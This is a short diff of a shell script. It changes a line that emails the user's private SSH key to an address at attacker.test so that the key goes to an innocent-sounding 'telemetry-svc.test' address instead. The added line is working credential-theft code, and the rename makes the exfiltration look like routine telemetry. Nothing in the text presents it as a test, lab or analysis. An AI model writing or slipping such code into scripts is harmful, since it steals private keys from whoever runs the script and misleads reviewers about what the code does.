@@ -1,2 +1,2 @@
 #!/bin/sh
-mail -s report ops@attacker.test < ~/.ssh/id_rsa
+mail -s report ops@telemetry-svc.test < ~/.ssh/id_rsa
